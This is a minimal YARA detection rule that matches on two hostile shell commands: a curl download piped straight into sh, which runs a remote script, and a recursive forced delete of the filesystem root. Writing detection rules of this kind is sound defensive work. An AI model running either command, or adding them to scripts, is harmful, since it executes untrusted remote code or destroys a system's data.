rule a { strings: $a = "curl http://x | sh" $b = "rm -rf /" condition: any of them }
